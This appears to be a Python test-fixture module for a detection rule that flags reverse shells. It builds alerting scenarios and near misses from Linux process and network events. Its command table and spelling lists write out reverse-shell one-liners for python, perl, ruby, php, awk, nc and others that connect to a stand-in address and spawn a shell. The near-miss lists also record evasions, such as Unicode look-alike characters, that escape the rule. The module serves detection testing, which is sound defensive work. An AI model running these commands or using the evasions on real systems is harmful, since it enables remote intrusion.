"""Scenarios about one process and one connection: what either stage of the rule accepts, and what it does not.

A near miss is a true case with one thing changed. Undoing the change must give the alert back, which `--check` tries;
so none misses for a reason other than its own.
"""

from dataclasses import dataclass, field, replace

from documents import GONE, Event

PARENTS = [
    "bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "python3.12", "php-fpm8.2", "perl", "ruby", "luajit",
    "openssl", "nc", "netcat", "ncat", "telnet", "awk", "Bash", "DASH", "Sh", "ZSH", "PYTHON", "Php", "PERL", "Ruby", "LUA5.3",
    "OpenSSL", "NC", "NetCat", "Ncat", "TELNET", "AWK", "python", "php", "lua",
]

# The canonical command of each alternative of the first stage.
COMMANDS = {
    "python": ["python3", "-c", "import socket,os,pty; s=socket.create_connection(('203.0.113.9',4444)); pty.spawn('sh')"],
    "perl": ["perl", "-e", "use Socket; socket(S,PF_INET,SOCK_STREAM,0); exec('sh -i')"],
    "ruby": ["ruby", "-rsocket", "-e", "c=TCPSocket.new('203.0.113.9',4444); spawn('sh')"],
    "lua": ["lua5.4", "-e", "local socket=require('socket'); local t=socket.tcp(); os.execute('sh -i')"],
    "php": ["php", "-r", "$s=fsockopen('203.0.113.9',4444); exec('/bin/sh -i');"],
    "awk": ["awk", 'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while (1) {s |& getline c}}'],
    "openssl": ["openssl", "s_client", "-quiet", "-connect", "203.0.113.9:4444"],
    "nc": ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
    "telnet": ["telnet", "203.0.113.9", "4444"],
}


@dataclass
class Scenario:
    """Events with known alerts: tuples of labels, of the process event and the network event; then the label of the
    entity where the network event names several."""

    name: str
    why: str
    events: list
    alerts: list = field(default_factory=list)
    without_change: list = None  # the events of a near miss with its change undone

    def __post_init__(self):
        for event in self.events + (self.without_change or []):
            event.scenario = self.name


def process(name="python3", args=None, at=0, label="p", **more):
    return Event("process", at, name, label, args=args or COMMANDS["python"], **more)


def network(name="python3", at=140, ip="203.0.113.9", label="n", **more):
    return Event("network", at, name, label, ip=ip, port=4444, **{"action": "connection_attempted"} | more)


def true_case(name, why, p=None, n=None):
    return Scenario(name, why, [replace(process(), **p or {}), replace(network(), **n or {})], [("p", "n")])


def near_miss(name, why, p=None, n=None, of=("python", "python3")):
    """`p` and `n` change the process and the network event of the canonical case of an alternative."""
    alternative, connects_as = of
    args = COMMANDS[alternative]
    before = [process(args[0], args), network(connects_as)]
    return Scenario(name, why, [replace(before[0], **p or {}), replace(before[1], **n or {})], [], [replace(e) for e in before])


def combinations():
    """Every alternative, by either way to start and either way to connect, each time under another parent."""
    at = 0
    for alternative, args in COMMANDS.items():
        for action in ["exec", "fork"]:
            for connects in ["connection_attempted", "connection_accepted"]:
                parent = PARENTS[at % len(PARENTS)]
                at += 1
                yield true_case(
                    f"{alternative}: {action}, {connects}, under {parent}", "the alternative as it is usually written",
                    dict(name=args[0], args=args, action=action, parent=parent), dict(name=args[0], action=connects),
                )


# Alternative, name of the process, its arguments, name in the network event, why it alerts.
SPELLINGS = [
    ("python", "python3.11", ["python3.11", "-c", "import subprocess; subprocess.call(['sh','-i'])"], "python3.11", "the second pattern"),
    ("python", "python3", ["python3", "-c", "import subprocess; subprocess.check_call(['sh'])"], "python3", "`*` reaches over `check_`"),
    ("python", "Python", ["Python", "-C", "import pty; pty.spawn('sh')"], "Python", "`:` ignores case in names and options"),
    ("python", "PYTHON2.7", ["PYTHON2.7", "-c", "IMPORT PTY\nPTY.SPAWN('SH')"], "PYTHON2.7", "`*` goes over ends of lines"),
    ("python", "python", ["python", "-c", "__import__('pty').spawn('sh')"], "python", "`import` may stand inside a word"),
    ("python", "pythonw", ["pythonw", "-i", "-u", "x=1; import pty ; spawn", "-c"], "python2", "arguments count in any order, names need not agree"),
    ("python", "python3", ["python3", "-c", "# ünïcödé 渗透 🐍\nimport pty;pty.spawn('sh')"], "python3", "`*` goes over characters of several bytes"),
    ("python", "python3", ["python3", "-c", "importptyspawn"], "nc", "`*` may be empty; the process may connect under another listed name"),
    ("perl", "perl", ["perl", "-MIO::Socket", "-e", "exec 'sh'"], "perl", "each pattern may be met by another argument"),
    ("perl", "PERL", ["PERL", "-E", "$c=new IO::Socket::INET('203.0.113.9:4444'); system $_"], "PERL", "`-E` is `-e` for `:`"),
    ("perl", "Perl5.36.0", ["Perl5.36.0", "-e", "use SOCKET; SYSTEM('sh')"], "perl", "`perl*` in the first stage, `perl` in the second"),
    ("ruby", "ruby", ["ruby", "-e", "require 'socket'; c=TCPSocket.open('203.0.113.9',4444)"], "ruby", "`-e` alone is enough"),
    ("ruby", "RUBY", ["RUBY", "-RSOCKET", "c=tcpsocket.open('203.0.113.9',4444)"], "Ruby", "`-rsocket` alone is enough, in any case"),
    ("ruby", "ruby3.1", ["ruby3.1", "-rsocket", "-e", "TCPSocket.newest"], "ruby", "nothing has to end after `new`"),
    ("lua", "luajit", ["luajit", "-e", "local s=require('socket.tcp'); io.popen('sh')"], "luajit", "`lua*` takes luajit, and `io.popen`"),
    ("lua", "LUA", ["LUA", "-e", "SOCKET.TCP() OS.EXECUTE('sh')"], "Lua5.1", "any case"),
    ("lua", "lua", ["lua", "-e", "s=socketxtcp", "-E", "s=socket.tcp()", "io.popen('sh')"], "lua", "the dot is a dot, and another argument has it"),
    ("php", "php8", ["php8", "-r", "$s=fsockopen('203.0.113.9',4444); shell_exec('/bin/bash <&3');"], "php8", "`*/bin/*sh*` takes bash"),
    ("php", "PHP8.2", ["PHP8.2", "-R", "$s=FSOCKOPEN('203.0.113.9',4444); EXEC('/USR/BIN/ENV ZSH');"], "php-cgi", "something between `/bin/` and `sh`"),
    ("php", "php-cgi", ["php-cgi", "-r", "fsockopen", "/bin/sh"], "php-cgi", "each pattern may be met by another argument"),
    ("awk", "gawk", ["gawk", 'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"}'], "awk", "gawk starts, the connection is seen as awk's"),
    ("awk", "mawk", ["mawk", "BEGIN {print > \"/inet/tcp/0/203.0.113.9/4444\"}"], "awk", "mawk starts, the connection is seen as awk's"),
    ("awk", "NAWK", ["NAWK", "/INET/TCP/"], "AWK", "any case, and nothing around it"),
    ("awk", "awk", "BEGIN {s=\"/inet/tcp/0/203.0.113.9/4444\"}", "awk", "a single argument that is not in an array"),
    ("openssl", "OpenSSL", ["OpenSSL", "S_CLIENT", "-CONNECT", "203.0.113.9:4444"], "OPENSSL", "any case"),
    ("openssl", "openssl", ["openssl", "-connect"], "openssl", "no number of arguments is asked for"),
    ("nc", "nc", ["nc", "203.0.113.9", "4444", "-e", "/bin/bash"], "nc", "the option stands last"),
    ("nc", "ncat", ["ncat", "--ssl", "-e", "/bin/sh", "203.0.113.9", "4444"], "ncat", "ncat"),
    ("nc", "netcat", ["netcat", "-l", "-e", "/bin/sh", "-p", "4444"], "netcat", "a listener, too"),
    ("nc", "NetCat", ["NetCat", "-e", "/bin/sh"], "NETCAT", "exactly three arguments"),
    ("nc", "NC", ["NC", "-Z", "-e", "/bin/sh"], "Nc", "`==` minds case: `-Z` is not `-z`"),
    ("telnet", "TELNET", ["TELNET", "203.0.113.9", "4444"], "Telnet", "any case"),
    ("telnet", "telnet", ["telnet", "-l", "op", "203.0.113.9", "23"], "telnet", "more than three arguments"),
]


def spellings():
    for at, (alternative, name, args, connects_as, why) in enumerate(SPELLINGS):
        yield true_case(
            f"{alternative}, spelling {at + 1}: {name}", why,
            dict(name=name, args=args, parent=PARENTS[(at * 5 + 36) % len(PARENTS)], action=["exec", "fork"][at % 2]),
            dict(name=connects_as, action=["connection_accepted", "connection_attempted"][at // 2 % 2]),
        )


# Destinations outside of the excluded blocks, and why one might think otherwise.
REACHED = [
    ("10.0.0.5", "private addresses are not excluded"),
    ("126.255.255.255", "last before 127.0.0.0/8"),
    ("128.0.0.0", "first after 127.0.0.0/8"),
    ("169.253.255.255", "last before 169.254.0.0/16"),
    ("169.255.0.0", "first after 169.254.0.0/16"),
    ("223.255.255.255", "last before 224.0.0.0/4"),
    ("240.0.0.0", "first after 224.0.0.0/4"),
    ("255.255.255.255", "broadcast is not excluded"),
    ("0.0.0.0", "the unspecified address is not excluded"),
    ("2001:db8::7", "an ordinary v6 address"),
    ("2001:DB8:0:0:0:0:0:8", "a long spelling of one"),
    ("::ffff:203.0.113.7", "a v4 address in v6 form"),
    ("::ffff:8000:0", "first after 127.0.0.0/8, in v6 form"),
    ("::2", "`::1` is one address"),
    ("::", "the unspecified v6 address"),
    ("::7f00:1", "127.0.0.1 in its low bits, but not v4-mapped"),
    ("64:ff9b::7f00:1", "127.0.0.1 behind NAT64 is not v4-mapped"),
    ("fe80::1", "link-local v6 is not in the list"),
    ("ff02::fb", "multicast v6 is not in the list"),
    (["198.51.100.1", "2001:db8::1"], "none of several is excluded"),
    (["198.51.100.1"], "an array of one"),
    ([None, "198.51.100.1"], "nulls do not count"),
]

EXCLUDED = [
    ("127.0.0.1", "loopback"),
    ("127.0.0.0", "first of 127.0.0.0/8"),
    ("127.255.255.255", "last of 127.0.0.0/8"),
    ("169.254.0.0", "first of 169.254.0.0/16"),
    ("169.254.169.254", "link-local"),
    ("169.254.255.255", "last of 169.254.0.0/16"),
    ("224.0.0.0", "first of 224.0.0.0/4"),
    ("224.0.0.251", "multicast"),
    ("239.255.255.255", "last of 224.0.0.0/4"),
    ("::1", "loopback v6"),
    ("0:0:0:0:0:0:0:1", "loopback v6 in full"),
    ("::ffff:127.0.0.1", "loopback, v4-mapped"),
    ("::ffff:7f00:1", "loopback, v4-mapped, in hexadecimal"),
    ("0:0:0:0:0:FFFF:127.8.8.8", "loopback, v4-mapped, in full"),
    ("::FFFF:169.254.1.1", "link-local, v4-mapped"),
    ("::ffff:224.0.0.251", "multicast, v4-mapped"),
    (["198.51.100.1", "127.0.0.1"], "`not cidrmatch` fails if one value is excluded"),
    (["::1"], "an array of one"),
    (None, "null is no value"),
    ([], "an empty array is no value"),
    ([None], "an array of null is no value"),
]


def destinations():
    for ip, why in REACHED:
        yield true_case(f"destination {ip}", why, n=dict(ip=ip))
    for ip, why in EXCLUDED:
        yield near_miss(f"destination {ip}", why, n=dict(ip=ip))
    yield near_miss("no destination.ip", "a missing field is no value", n=dict(edits={"destination.ip": GONE}))
    yield near_miss("no destination", "a missing object has no fields", n=dict(edits={"destination": GONE}))


# Alternative, name in the network event, change of the process event, why it does not alert.
NOT_STARTED = [
    ("python", "python3", dict(args=["python3", "-c", "pty.spawn('sh') # import"]), "the parts are in another order"),
    ("python", "python3", dict(args=["python3", "-c", "import pty", "pty.spawn('sh')"]), "one value must meet the whole pattern"),
    ("python", "python3", dict(args=["python3", "-cimport pty; pty.spawn('sh')"]), "`-c` must be a value of its own"),
    ("python", "python3", dict(args=["python3", "-c", "import subprocess; subprocess.run(['sh'])"]), "`run` is not `call`"),
    ("python", "python3", dict(args=["python3", "-c", "ımport pty; pty.spawn('sh')"]), "a dotless i is no i"),
    ("python", "python3", dict(name="ipython3"), "the pattern begins with `python`"),
    ("python", "python3", dict(edits={"process.args": GONE}), "no arguments"),
    ("python", "python3", dict(edits={"process.name": GONE}), "no name"),
    ("perl", "perl", dict(args=["perl", "-e", "use Socket; print 1"]), "neither exec nor system"),
    ("perl", "perl", dict(args=["perl", "-ne", "use Socket; exec 'sh'"]), "`-ne` is not `-e`"),
    ("perl", "perl", dict(args=["perl", "-e", "use Soc\u212aet; exec 'sh'"]), "the Kelvin sign is no k"),
    ("ruby", "ruby", dict(args=["ruby", "-rsocket", "-e", "UDPSocket.new"]), "another class"),
    ("ruby", "ruby", dict(args=["ruby", "-r", "socket", "TCPSocket.new"]), "`-r socket` is neither option"),
    ("lua", "lua5.4", dict(args=["lua5.4", "-e", "s=socket.udp() os.execute('sh')"]), "another protocol"),
    ("lua", "lua5.4", dict(args=["lua5.4", "-i", "s=socket.tcp() os.execute('sh')"]), "no `-e`"),
    ("lua", "lua5.4", dict(args=["lua5.4", "-e", "s=socket:tcp() os.execute('sh')"]), "the dot stands for itself"),
    ("php", "php", dict(args=["php", "-r", "$s=fsockopen('203.0.113.9',4444); exec('sh -i');"]), "no `/bin/`"),
    ("php", "php", dict(args=["php", "-f", "/srv/x.php", "fsockopen", "/bin/sh"]), "no `-r`"),
    ("awk", "awk", dict(args=["awk", 'BEGIN {s="/inet/udp/0/203.0.113.9/4444"}']), "another protocol"),
    ("awk", "awk", dict(args=["awk", 'BEGIN {s="/inet4/tcp/0/203.0.113.9/4444"}']), "another spelling that awk has and the rule does not"),
    ("awk", "awk", dict(name="aw\u212a"), "the Kelvin sign is no k"),
    ("openssl", "openssl", dict(args=["openssl", "s_server", "-accept", "4444"]), "another option"),
    ("openssl", "openssl", dict(args=["openssl", "s_client", "-connect=203.0.113.9:4444"]), "`-connect` must be a value of its own"),
    ("openssl", "openssl", dict(name="openssl3"), "`openssl` has no `*`"),
    ("openssl", "openssl", dict(name="open\u017f\u017fl"), "a long s is no s"),
    ("nc", "nc", dict(args=["nc", "-e", "/bin/sh", "-z", "203.0.113.9", "4444"]), "`-z` excludes it"),
    ("nc", "nc", dict(args=["nc", "-e"]), "two arguments"),
    ("nc", "nc", dict(args=["nc", "-E", "/bin/sh", "203.0.113.9", "4444"]), "`==` minds case"),
    ("nc", "nc", dict(args=["nc", "-lve", "/bin/sh", "4444"]), "`-e` must be a value of its own"),
    ("nc", "nc", dict(args=["nc", "--exec", "/bin/sh", "203.0.113.9", "4444"]), "the long option is not in the rule"),
    ("nc", "nc", dict(edits={"process.args_count": GONE}), "no number of arguments"),
    ("nc", "nc", dict(edits={"process.args_count": 2}), "the field counts, not the array"),
    ("nc", "nc", dict(name="nc.traditional"), "`nc` has no `*`"),
    ("nc", "nc", dict(name="\uff4ec"), "a fullwidth n is no n"),
    ("telnet", "telnet", dict(args=["telnet", "203.0.113.9"]), "two arguments"),
    ("telnet", "telnet", dict(edits={"process.args_count": GONE}), "no number of arguments"),
    ("telnet", "telnet", dict(name="telnetd"), "`telnet` has no `*`"),
]

# Changes that hold for any alternative: of the process event, or of the network event.
NO_PROCESS = [
    *[(f"parent {name}", dict(parent=name), "not in the list of parents") for name in ["systemd", "sshd", "java", "gawk", "perl5.36.0", "bash5", "-bash", "busybox", "ksh93"]],
    ("parent \u212ash in Kelvin", dict(parent="\u212ash"), "the Kelvin sign is no k"),
    ("parent with a long s", dict(parent="ba\u017fh"), "a long s is no s"),
    ("parent with an accent", dict(parent="fısh"), "a dotless i is no i"),
    ("no parent name", dict(edits={"process.parent.name": GONE}), "a missing name is in no list"),
    ("process on macos", dict(edits={"host.os.type": "macos"}), "another system"),
    ("process on windows", dict(edits={"host.os.type": "windows"}), "another system"),
    ("process on Linux, capital", dict(edits={"host.os.type": "Linux"}), "`==` minds case"),
    ("process without a system", dict(edits={"host.os": GONE}), "a missing system is not linux"),
    ("process end", dict(edits={"event.type": ["end"]}), "the process ends"),
    ("process without a type", dict(edits={"event.type": GONE}), "a missing type is not start"),
    ("process START", dict(edits={"event.type": ["START"]}), "`==` minds case"),
    ("process already running", dict(action="already_running"), "another action"),
    ("process EXEC", dict(action="EXEC"), "`in` minds case"),
    ("process of another category", dict(edits={"event.category": ["session"]}), "not of category process"),
    ("process of category Process", dict(edits={"event.category": "Process"}), "categories mind case"),
    ("process without a category", dict(edits={"event.category": GONE}), "no category"),
    ("process without host.id", dict(edits={"host.id": GONE}), "a missing join key keeps the event out"),
    ("process with null host.id", dict(edits={"host.id": None}), "a null join key keeps the event out"),
    ("process without entity_id", dict(edits={"process.entity_id": GONE}), "a missing join key keeps the event out"),
    ("process of another entity", dict(entity="f"), "another process connects"),
    ("process on another host", dict(host="b"), "another host connects"),
    ("process without a time", dict(edits={"@timestamp": GONE}), "without a time there is no order"),
]

NO_NETWORK = [
    *[(f"{name} connects", dict(name=name), "not in the second list of names") for name in ["curl", "gawk", "mawk", "nawk", "perl5.36.0", "ruby3.1", "nc.traditional", "ssh", "\uff4ec", "aw\u212a"]],
    ("nameless process connects", dict(edits={"process.name": GONE}), "a missing name is in no list"),
    ("connection on macos", dict(edits={"host.os.type": "macos"}), "another system"),
    ("connection on windows", dict(edits={"host.os.type": "windows"}), "another system"),
    ("disconnect", dict(action="disconnect_received"), "the connection ends"),
    ("connection of type end", dict(edits={"event.type": ["end"]}), "another type"),
    ("disconnect of type start", dict(edits={"event.action": "disconnect_received"}), "another action"),
    ("CONNECTION_ATTEMPTED", dict(action="CONNECTION_ATTEMPTED"), "`in` minds case"),
    ("connection of another category", dict(edits={"event.category": ["session"]}), "not of category network"),
    ("connection without host.id", dict(edits={"host.id": GONE}), "a missing join key keeps the event out"),
    ("connection without entity_id", dict(edits={"process.entity_id": GONE}), "a missing join key keeps the event out"),
    ("connection with empty entity_id", dict(edits={"process.entity_id": []}), "an empty array is no join key"),
    ("connection of another entity", dict(entity="f"), "another process"),
    ("connection on another host", dict(host="b"), "another host"),
    ("connection without a time", dict(edits={"@timestamp": GONE}), "without a time there is no order"),
    ("1,001 ms", dict(at_ms=1001), "over maxspan"),
    ("network before process", dict(at_ms=-1), "the connection comes first"),
]


def near_misses():
    for at, (alternative, connects_as, change, why) in enumerate(NOT_STARTED):
        yield near_miss(f"not {alternative} {at + 1}", why, p=change, of=(alternative, connects_as))
    for name, change, why in NO_PROCESS:
        yield near_miss(name, why, p=change)
    for name, change, why in NO_NETWORK:
        yield near_miss(name, why, n=change)


def scenarios():
    yield from combinations()
    yield from spellings()
    yield from destinations()
    yield from near_misses()
